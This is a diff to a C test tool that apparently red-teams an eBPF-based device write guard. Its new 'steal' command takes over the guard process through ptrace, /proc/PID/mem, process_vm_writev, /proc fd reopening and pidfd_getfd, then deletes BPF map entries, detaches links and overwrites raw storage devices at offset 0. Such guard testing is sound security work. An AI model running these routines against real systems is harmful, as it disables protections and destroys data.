@@ -8,7 +8,14 @@
  *   bpf-clear-map NAME         delete every key of every hash map named NAME (the protected set)
  *   bpf-detach-links PREFIX    BPF_LINK_GET_FD_BY_ID + BPF_LINK_DETACH of every link whose program's name
  *                              starts with PREFIX
- *   pidfd-steal PID NAME       pidfd_getfd every fd of PID; zero the maps named NAME, detach the links
+ *   steal PID HOW              take what a running process (fwgated) holds, HOW one of ptrace-attach,
+ *                              ptrace-seize, proc-mem, vm-writev (a word of its memory written back),
+ *                              proc-fd (reopen /proc/PID/fd/N), pidfd-getfd; then use every fd obtained
+ *                              against the guard and the targets (update and delete map entries, map a
+ *                              map writable, detach a link, write a device). Prints "obtained: ..." per
+ *                              theft and "changed: ..." per use the kernel let through (an fd that
+ *                              pidfd_getfd refuses is tried by id too, from its fdinfo); exits 0 if
+ *                              anything was obtained or changed, 1 if the kernel refused it all
  *   hold-mmap DEV OFF          map DEV shared and writable at OFF now; on a line on stdin dirty it and msync
  *   aio-write FD OFF           an io_submit write of the attack pattern to the already open FD
  *   uring-write FD OFF         an IORING_OP_WRITE of the pattern to the already open FD
@@ -35,9 +42,15 @@
 #include <sys/io.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
 #include <unistd.h>
 #include <dirent.h>
+#include <linux/netlink.h>
 
 #define PATTERN_LEN 4096
 
@@ -56,11 +69,17 @@ static void fill_pattern(void)
 		pattern[i] = word[i % n];
 }
 
+/* strerror() of an errno, and of the kernel's internal ENOTSUPP (524) that bpf(2) lets out. */
+static const char *errname(int e)
+{
+	return e == 524 ? "ENOTSUPP, not supported by this map type" : strerror(e);
+}
+
 static int refused(const char *what)
 {
 	int e = errno;
 
-	printf("%s: refused: %s (errno %d)\n", what, strerror(e), e);
+	printf("%s: refused: %s (errno %d)\n", what, errname(e), e);
 	return 1;
 }
 
@@ -189,39 +208,364 @@ static int each_id(int next_cmd, int fd_cmd, int (*fn)(int, const char *), const
 	return done && !failed ? 0 : 1;
 }
 
-static int pidfd_steal(int pid, const char *name)
+/* ------------------------------------------------------------ steal: a running process's power */
+
+static int obtained, changed;
+
+static void use_refused(const char *what, int fd)
 {
+	int e = errno;
+
+	printf("  %s on stolen fd %d: refused: %s (errno %d)\n", what, fd, errname(e), e);
+}
+
+static void use_changed(const char *what, int fd)
+{
+	printf("changed: %s on stolen fd %d: accepted\n", what, fd);
+	changed++;
+}
+
+static void map_sys(int cmd, const char *what, int fd, void *key, void *value)
+{
+	union bpf_attr a = { 0 };
+
+	a.map_fd = fd;
+	a.key = (uintptr_t)key;
+	a.value = (uintptr_t)value;
+	a.flags = BPF_ANY;
+	if (sys_bpf(cmd, &a))
+		use_refused(what, fd);
+	else
+		use_changed(what, fd);
+}
+
+/*
+ * A stolen map fd: overwrite and delete its first entry (key 0 for arrays), and map it writable if it can be
+ * mapped at all. A ring buffer's consumer page is writable by design (its reader advances it): that is no
+ * change to what the guard enforces, so a ring buffer is only written through bpf(2).
+ */
+static void use_map(int fd)
+{
+	struct bpf_map_info mi = { 0 };
+	union bpf_attr a = { 0 };
+	void *key, *val, *p;
+
+	if (obj_info(fd, &mi, sizeof(mi))) {
+		use_refused("BPF_OBJ_GET_INFO_BY_FD", fd);
+		return;
+	}
+	printf("  fd %d: bpf map %u \"%s\" (type %u, flags 0x%x)\n", fd, mi.id, mi.name, mi.type, mi.map_flags);
+	key = calloc(1, mi.key_size + 8);
+	val = calloc(1, mi.value_size * 256 + 8);	/* per-CPU maps take one value per possible CPU */
+	if (mi.key_size) {
+		a.map_fd = fd;
+		a.next_key = (uintptr_t)key;
+		sys_bpf(BPF_MAP_GET_NEXT_KEY, &a);	/* the first key, or key 0 */
+	}
+	map_sys(BPF_MAP_UPDATE_ELEM, "BPF_MAP_UPDATE_ELEM", fd, mi.key_size ? key : NULL, val);
+	map_sys(BPF_MAP_DELETE_ELEM, "BPF_MAP_DELETE_ELEM", fd, mi.key_size ? key : NULL, NULL);
+	map_sys(BPF_MAP_LOOKUP_AND_DELETE_ELEM, "BPF_MAP_LOOKUP_AND_DELETE_ELEM", fd, mi.key_size ? key : NULL,
+		val);
+	if (mi.map_flags & BPF_F_MMAPABLE) {
+		p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+		if (p == MAP_FAILED) {
+			use_refused("mmap PROT_WRITE MAP_SHARED", fd);
+		} else {
+			use_changed("mmap PROT_WRITE MAP_SHARED", fd);
+			munmap(p, 4096);
+		}
+	}
+	free(key);
+	free(val);
+}
+
+static void use_link(int fd)
+{
+	struct bpf_link_info li = { 0 };
+	union bpf_attr a = { 0 };
+
+	if (obj_info(fd, &li, sizeof(li))) {
+		use_refused("BPF_OBJ_GET_INFO_BY_FD", fd);
+		return;
+	}
+	printf("  fd %d: bpf link %u (prog %u)\n", fd, li.id, li.prog_id);
+	a.link_detach.link_fd = fd;
+	if (sys_bpf(BPF_LINK_DETACH, &a))
+		use_refused("BPF_LINK_DETACH", fd);
+	else
+		use_changed("BPF_LINK_DETACH", fd);
+}
+
+/* A stolen device fd: write the attacker's pattern at offset 0, whatever mode it was opened in. */
+static void use_device(int fd, const char *name)
+{
+	printf("  fd %d: %s\n", fd, name);
+	if (pwrite(fd, pattern, PATTERN_LEN, 0) < 0) {
+		use_refused("pwrite of 4 KiB at 0", fd);
+		return;
+	}
+	fsync(fd);
+	use_changed("pwrite of 4 KiB at 0", fd);
+}
+
+/* The character devices that reach a medium or fwgate.ko: not a terminal, /dev/null or /dev/urandom. */
+static int writes_medium(const char *name)
+{
+	static const char *const prefixes[] = { "/dev/fwgate", "/dev/mtd", "/dev/ng", "/dev/sg", "/dev/bsg",
+						"/dev/nvme", "/dev/ubi" };
+	size_t i;
+
+	for (i = 0; i < sizeof(prefixes) / sizeof(prefixes[0]); i++)
+		if (!strncmp(name, prefixes[i], strlen(prefixes[i])))
+			return 1;
+	return 0;
+}
+
+static void use_fd(int fd)
+{
+	char self[64], name[256] = "";
+	int domain = 0, proto = 0;
+	socklen_t len = sizeof(int);
+	ssize_t n;
+	struct stat st;
+
+	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
+	n = readlink(self, name, sizeof(name) - 1);
+	if (n > 0)
+		name[n] = '\0';
+	if (!strcmp(name, "anon_inode:bpf-map")) {
+		use_map(fd);
+	} else if (!strcmp(name, "anon_inode:bpf_link") || !strcmp(name, "anon_inode:bpf-link")) {
+		use_link(fd);
+	} else if (!strcmp(name, "anon_inode:bpf-prog")) {
+		/* Nothing in a loaded program can be changed; attaching it elsewhere only adds denials. */
+		printf("  fd %d: a bpf program: loaded programs are immutable\n", fd);
+	} else if (!fstat(fd, &st) && (S_ISBLK(st.st_mode) || (S_ISCHR(st.st_mode) && writes_medium(name)))) {
+		use_device(fd, name);
+	} else if (!getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &len) &&
+		   !getsockopt(fd, SOL_SOCKET, SO_PROTOCOL, &proto, &len)) {
+		printf("  fd %d: %s, domain %d protocol %d%s\n", fd, name, domain, proto,
+		       domain == AF_NETLINK && proto == NETLINK_GENERIC ?
+		       " (generic netlink: fwgate.ko keeps no state per socket; root opens its own alike)" : "");
+	} else {
+		printf("  fd %d: %s\n", fd, name);
+	}
+}
+
+/* An fd no path leads to: a BPF object, an epoll or signalfd instance, a socket. */
+static int reaches_no_path(int fd)
+{
+	char self[64], name[256] = "";
+
+	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
+	if (readlink(self, name, sizeof(name) - 1) < 0)
+		return 1;
+	return !strncmp(name, "anon_inode:", 11) || !strncmp(name, "socket:", 7);
+}
+
+/* One writable word of @pid's memory, from its maps: the start of its first rw-p mapping. */
+static unsigned long writable_word(int pid)
+{
+	char path[64], line[512], perms[8];
+	unsigned long start = 0, end;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+	f = fopen(path, "r");
+	if (!f)
+		return 0;
+	while (fgets(line, sizeof(line), f))
+		if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) == 3 && !strcmp(perms, "rw-p"))
+			break;
+		else
+			start = 0;
+	fclose(f);
+	return start;
+}
+
+static int steal_ptrace(int pid, int seize)
+{
+	int status;
+
+	if (ptrace(seize ? PTRACE_SEIZE : PTRACE_ATTACH, pid, 0, 0)) {
+		refused(seize ? "PTRACE_SEIZE" : "PTRACE_ATTACH");
+		return 0;
+	}
+	printf("obtained: %s of pid %d: its memory, registers and system calls are the attacker's\n",
+	       seize ? "PTRACE_SEIZE" : "PTRACE_ATTACH", pid);
+	obtained++;
+	if (!seize)
+		waitpid(pid, &status, __WALL);
+	ptrace(PTRACE_DETACH, pid, 0, 0);
+	return 0;
+}
+
+/* /proc/PID/mem or process_vm_writev: a word read and written back unchanged, so the victim lives on. */
+static int steal_memory(int pid, int proc_mem)
+{
+	unsigned long addr = writable_word(pid), word = 0;
+	struct iovec local = { &word, sizeof(word) }, remote = { (void *)addr, sizeof(word) };
 	char path[64];
+	int fd;
+
+	if (!addr) {
+		printf("pid %d: no writable mapping found\n", pid);
+		return 0;
+	}
+	if (proc_mem) {
+		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+		fd = open(path, O_RDWR);
+		if (fd < 0) {
+			refused("open /proc/PID/mem O_RDWR");
+			return 0;
+		}
+		if (pread(fd, &word, sizeof(word), addr) != sizeof(word) ||
+		    pwrite(fd, &word, sizeof(word), addr) != sizeof(word)) {
+			refused("/proc/PID/mem write");
+			close(fd);
+			return 0;
+		}
+		close(fd);
+	} else {
+		if (process_vm_readv(pid, &local, 1, &remote, 1, 0) != sizeof(word)) {
+			refused("process_vm_readv");
+			return 0;
+		}
+		if (process_vm_writev(pid, &local, 1, &remote, 1, 0) != sizeof(word)) {
+			refused("process_vm_writev");
+			return 0;
+		}
+	}
+	printf("obtained: wrote pid %d's memory at 0x%lx through %s\n", pid, addr,
+	       proc_mem ? "/proc/PID/mem" : "process_vm_writev");
+	obtained++;
+	return 0;
+}
+
+/*
+ * fd @nr of @pid, refused to pidfd_getfd: if it is a BPF object (its fdinfo, which reading needs no more than
+ * ps does, names it), the other way to it, by id. An fd so obtained is used like a stolen one; the ring
+ * buffer and the counters of a sealed guard are open to root by design, so only the uses are judged.
+ */
+static void by_id_instead(int pid, int nr)
+{
+	static const struct {
+		const char *key;
+		int cmd;
+	} kinds[] = {
+		{ "map_id:", BPF_MAP_GET_FD_BY_ID },
+		{ "prog_id:", BPF_PROG_GET_FD_BY_ID },
+		{ "link_id:", BPF_LINK_GET_FD_BY_ID },
+	};
+	char path[64], line[256], frozen[16] = "";
+	unsigned int id[3] = { 0 };
+	size_t i;
+	FILE *f;
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/fdinfo/%d", pid, nr);
+	f = fopen(path, "r");
+	if (!f)
+		return;
+	while (fgets(line, sizeof(line), f)) {
+		for (i = 0; i < 3; i++)
+			if (!strncmp(line, kinds[i].key, strlen(kinds[i].key)))
+				id[i] = strtoul(line + strlen(kinds[i].key), NULL, 10);
+		if (!strncmp(line, "frozen:", 7)) {
+			char *v = line + 7 + strspn(line + 7, " \t");
+
+			snprintf(frozen, sizeof(frozen), " %.*s", (int)strcspn(v, "\n"), v);
+		}
+	}
+	fclose(f);
+	/* A link's fdinfo names its program too: the link is what the fd is. */
+	if (id[2])
+		id[1] = 0;
+	for (i = 0; i < 3; i++) {
+		if (!id[i])
+			continue;
+		printf("  fd %d of pid %d is %s %u%s%s\n", nr, pid, kinds[i].key, id[i], frozen[0] ? ", frozen:" : "",
+		       frozen);
+		fd = by_id(kinds[i].cmd, id[i]);
+		if (fd < 0) {
+			refused("  the same object by id");
+			continue;
+		}
+		printf("  the same object by id: an fd\n");
+		use_fd(fd);
+		close(fd);
+	}
+}
+
+/* Every fd of @pid, by pidfd_getfd or by reopening /proc/PID/fd/N, each then used. */
+static int steal_fds(int pid, int by_pidfd)
+{
+	char path[64], what[80];
 	struct dirent *de;
-	int pidfd, fd, n = 0, failed = 0, r;
+	int pidfd = -1, fd, nr;
 	DIR *d;
 
-	pidfd = syscall(SYS_pidfd_open, pid, 0);
-	if (pidfd < 0)
-		return refused("pidfd_open");
+	if (by_pidfd) {
+		pidfd = syscall(SYS_pidfd_open, pid, 0);
+		if (pidfd < 0)
+			return refused("pidfd_open"), 0;
+	}
 	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
 	d = opendir(path);
 	if (!d)
-		return refused(path);
+		return refused(path), 0;
 	while ((de = readdir(d))) {
 		if (de->d_name[0] == '.')
 			continue;
-		fd = syscall(SYS_pidfd_getfd, pidfd, atoi(de->d_name), 0);
+		nr = atoi(de->d_name);
+		if (by_pidfd) {
+			fd = syscall(SYS_pidfd_getfd, pidfd, nr, 0);
+			snprintf(what, sizeof(what), "pidfd_getfd of fd %d", nr);
+		} else {
+			snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, nr);
+			fd = open(path, O_RDWR);
+			if (fd < 0 && errno != EPERM && errno != EACCES)
+				fd = open(path, O_RDONLY);
+			snprintf(what, sizeof(what), "open of %s", path);
+		}
 		if (fd < 0) {
-			refused("pidfd_getfd");
-			failed = 1;
+			refused(what);
+			if (by_pidfd)
+				by_id_instead(pid, nr);
 			continue;
 		}
-		r = zero_map_fd(fd, name);
-		if (!r)
-			r = detach_link_fd(fd, "guard_");
-		n += r > 0;
-		failed |= r < 0;
+		if (by_pidfd || reaches_no_path(fd)) {
+			printf("obtained: %s\n", what);
+			obtained++;
+		} else {
+			/* A file, pipe or device reopened by its path: root opens that path anyway. */
+			printf("reopened: %s, a path root opens anyway\n", what);
+		}
+		use_fd(fd);
 		close(fd);
 	}
 	closedir(d);
-	printf("%d guard objects taken from pid %d\n", n, pid);
-	return n && !failed ? 0 : 1;
+	return 0;
+}
+
+static int steal(int pid, const char *how)
+{
+	if (!strcmp(how, "ptrace-attach"))
+		steal_ptrace(pid, 0);
+	else if (!strcmp(how, "ptrace-seize"))
+		steal_ptrace(pid, 1);
+	else if (!strcmp(how, "proc-mem"))
+		steal_memory(pid, 1);
+	else if (!strcmp(how, "vm-writev"))
+		steal_memory(pid, 0);
+	else if (!strcmp(how, "proc-fd"))
+		steal_fds(pid, 0);
+	else if (!strcmp(how, "pidfd-getfd"))
+		steal_fds(pid, 1);
+	else
+		return 2;
+	printf("pid %d, %s: %d obtained, %d changed\n", pid, how, obtained, changed);
+	return obtained || changed ? 0 : 1;
 }
 
 static int hold_mmap(const char *dev, off_t off)
@@ -478,8 +822,8 @@ int main(int argc, char **argv)
 		return each_id(BPF_MAP_GET_NEXT_ID, BPF_MAP_GET_FD_BY_ID, clear_map_fd, argv[2]);
 	if (!strcmp(cmd, "bpf-detach-links") && argc == 3)
 		return each_id(BPF_LINK_GET_NEXT_ID, BPF_LINK_GET_FD_BY_ID, detach_link_fd, argv[2]);
-	if (!strcmp(cmd, "pidfd-steal") && argc == 4)
-		return pidfd_steal(atoi(argv[2]), argv[3]);
+	if (!strcmp(cmd, "steal") && argc == 4)
+		return steal(atoi(argv[2]), argv[3]);
 	if (!strcmp(cmd, "hold-mmap") && argc == 4)
 		return hold_mmap(argv[2], strtoll(argv[3], NULL, 0));
 	if (!strcmp(cmd, "aio-write") && argc == 4)
